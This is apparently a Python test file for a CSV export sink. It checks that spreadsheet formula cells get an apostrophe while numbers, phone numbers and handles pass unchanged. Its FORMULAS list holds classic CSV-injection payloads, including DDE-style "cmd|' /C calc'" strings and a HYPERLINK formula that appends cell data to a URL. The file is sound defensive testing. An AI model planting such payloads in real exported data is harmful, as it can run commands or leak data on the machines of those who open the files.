"""Cells of CSV that a spreadsheet would run: made harmless, and nothing else is touched."""

from __future__ import annotations

import csv as standard
import io

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fictable.sinks import csv, json, ndjson
from fictable.sinks.formulas import neutralise_cells, neutralise_names
from fictable_core import CSV_OPTIONS

FORMULAS = [
    '=HYPERLINK("http://example.org?x="&A1)',
    "=1+1",
    "=",
    "=-5",
    "+SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-one",
    "- a list item",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1!B2",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1",
    "＝1+1",
    "＋A1",
    "＠SUM(1)",
    "-5 SUM(A1)",
    "+1;=1+1",
    "-1\n=1+1",
    "-5\n",
    "@name\n",
    "--1/A1",
]
HARMLESS = [
    "",
    "-",
    "+",
    "--",
    "+/-",
    "-5",
    "-5.25",
    "-1,234.50",
    "-3e-5",
    "+3.2E+10",
    "-12.5 %",
    "-12%",
    "+49 30 1234567",
    "+49 (0)30 123-45",
    "+1-555-0100",
    "+1-234-539-1299x5067",
    "+1 (555) 010-0123 ext. 12",
    "+1.555.0100",
    "+234",
    "+02:00",
    "-5 °C",
    "-5°C",
    "-12 kg",
    "+3 days",
    "-€5.00",
    "-$1,200",
    "+ 5",
    "@jane_doe",
    "@a.b99",
    "a=b",
    "x+y",
    "7-9",
    "me@example.org",
    "'=1",
    " =1",
    "A+",
    "é=",
    "ﬁrst",
    "日本",
]


def column(*texts: str | None) -> pa.Array:
    return pa.array(texts, pa.string())


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    """Whatever a spreadsheet would run begins with an apostrophe, and is otherwise whole."""
    assert neutralise_cells(column("plain", text, None)).to_pylist() == ["plain", f"'{text}", None]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_telephones_and_names_stay(text: str) -> None:
    """Negative numbers, telephone numbers, handles and text with signs inside are not damaged."""
    assert neutralise_cells(column(text, "=1", None)).to_pylist() == [text, "'=1", None]


def test_names_of_columns_never_begin_with_a_sign() -> None:
    """In the header every name with a sign gets the apostrophe, also one that would be harmless in a cell."""
    assert neutralise_names(["=a", "+1", "-5", "@x", "＝a", "", "a=", "\tx"]) == ["'=a", "'+1", "'-5", "'@x", "'＝a", "", "a=", "'\tx"]


def encode(batch: pa.RecordBatch, **options: bool) -> str:
    return b"".join(csv.encode([batch], batch.schema, options)).decode()


def test_csv_neutralises_text_alone() -> None:
    """Cells and header of text columns, plain or of a dictionary, before quotes are put; numbers stay; both can be kept as they are."""
    batch = pa.RecordBatch.from_pydict(
        {"=a": column('=A1,"x"', None), "b": column("-x", "ok").dictionary_encode(), "-c": pa.array([-5, -6]), "d": pa.array([-0.5, None])}
    )
    assert encode(batch) == '\'=a,b,\'-c,d\n"\'=A1,""x""",\'-x,-5,-0.5\n,ok,-6,\n'
    assert encode(batch, keep_formulas=True) == '=a,b,-c,d\n"=A1,""x""",-x,-5,-0.5\n,ok,-6,\n'


@pytest.mark.parametrize("sink", [json, ndjson])
def test_other_formats_keep_every_text(sink: object) -> None:
    """No spreadsheet opens JSON, so nothing is changed there."""
    batch = pa.RecordBatch.from_pydict({"=a": column("=1+1", "-x")})
    assert b'"=a":"=1+1"' in b"".join(sink.encode([batch], batch.schema, {}))  # type: ignore[attr-defined]


def is_harmless_in_a_spreadsheet(text: str) -> bool:
    """Written apart from the rule: no sign in front, or neither a call, nor a sheet, nor a program, nor a cell behind it."""
    if not text or text[0] not in "=+-@＝＋－＠\t\r\n\0":
        return True
    if text[0] not in "+-@＋－＠":
        return False
    for place, letter in enumerate(text):
        if letter in "!|&;\"'[]{}^<>=\t\r\n\x00":
            return False
        if letter == "(" and text[place - 1].isalpha():
            return False
    return text[0] == "@" or not text[1:2].isalpha()


@settings(max_examples=400, deadline=None)
@given(st.lists(st.none() | st.text(st.sampled_from("=+-@12.eAxcmd ()!|'\",\t\r\n\x00＝é°%$"), max_size=8), max_size=12), st.integers(0, 5))
def test_no_cell_can_run(texts: list[str | None], skip: int) -> None:
    """Of any texts, in any slice, none can run afterwards, and each is as it was or has one apostrophe in front."""
    array = column(*texts).slice(min(skip, len(texts)))
    given_, made = array.to_pylist(), neutralise_cells(array).to_pylist()
    for before, after in zip(given_, made, strict=True):
        assert after in {before, None if before is None else f"'{before}"}
        assert after is None or is_harmless_in_a_spreadsheet(after)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.sampled_from('=+-@a1",\r\n'), max_size=5), min_size=1, max_size=8))
def test_readers_find_the_texts_again(texts: list[str]) -> None:
    """Python's csv module reads each text back, with its apostrophe where it got one."""
    rows = list(standard.reader(io.StringIO(encode(pa.RecordBatch.from_pydict({"a": column(*texts), "b": column(*texts)})), newline="")))
    assert rows[1:] == [[text, text] for text in neutralise_cells(column(*texts)).to_pylist()]


def test_text_under_a_null_is_not_looked_at() -> None:
    """A null stays null even where the buffer has a formula at its place."""
    hidden = pc.if_else(pa.array([True, False]), pa.scalar(None, pa.string()), column("=1", "=2"))
    assert neutralise_cells(hidden).to_pylist() == [None, "'=2"]
    assert neutralise_cells(column()).to_pylist() == []
    assert neutralise_cells(pa.nulls(3, pa.string())).to_pylist() == [None, None, None]


def test_texts_in_parts_are_neutralised_whole() -> None:
    """A cell that comes in parts to be joined gets its apostrophe where the whole begins with a sign, also behind an empty first part."""
    heads = column("", "=", "a", "-").dictionary_encode()
    tails = column("=1", "1+1", "=2", "5")
    parts = pa.StructArray.from_arrays([heads, tails], names=["0", "1"])
    batch = pa.RecordBatch.from_arrays([parts, column("w", "x", "y", "z")], names=["a", "b"])
    assert b"".join(csv.encode([batch], batch.schema, {})).decode() == "a,b\n'=1,w\n'=1+1,x\na=2,y\n-5,z\n"


def test_the_core_pack_declares_the_options_of_csv() -> None:
    """What the service may set is what the encoder reads."""
    assert CSV_OPTIONS == csv.OPTIONS
